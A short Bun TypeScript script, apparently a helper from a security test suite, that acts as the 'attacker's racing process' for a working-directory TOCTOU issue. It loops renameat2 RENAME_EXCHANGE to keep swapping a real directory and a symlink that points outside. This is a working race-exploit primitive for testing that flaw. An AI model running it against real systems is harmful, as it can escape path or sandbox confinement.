/**
 * The attacker's racing process (issue 12, cwd TOCTOU): atomically exchanges two directory
 * entries (renameat2 RENAME_EXCHANGE), say a real directory and a symlink to outside, as fast
 * as it can, until it is killed. Prints "racing" once it has swapped at least once.
 * Usage: bun swap-racer.ts PATH_A PATH_B
 */
import { dlopen, FFIType } from "bun:ffi";

const AT_FDCWD = -100;
const RENAME_EXCHANGE = 2;
const [a, b] = process.argv.slice(2);
if (!a || !b) throw new Error("usage: swap-racer.ts PATH_A PATH_B");
const { renameat2 } = dlopen("libc.so.6", {
  renameat2: { args: [FFIType.i32, FFIType.ptr, FFIType.i32, FFIType.ptr, FFIType.u32], returns: FFIType.i32 },
}).symbols;
const pathA = Buffer.from(`${a}\0`);
const pathB = Buffer.from(`${b}\0`);
if (renameat2(AT_FDCWD, pathA, AT_FDCWD, pathB, RENAME_EXCHANGE) !== 0) throw new Error("renameat2(RENAME_EXCHANGE) failed");
console.log("racing");
for (;;) renameat2(AT_FDCWD, pathA, AT_FDCWD, pathB, RENAME_EXCHANGE);
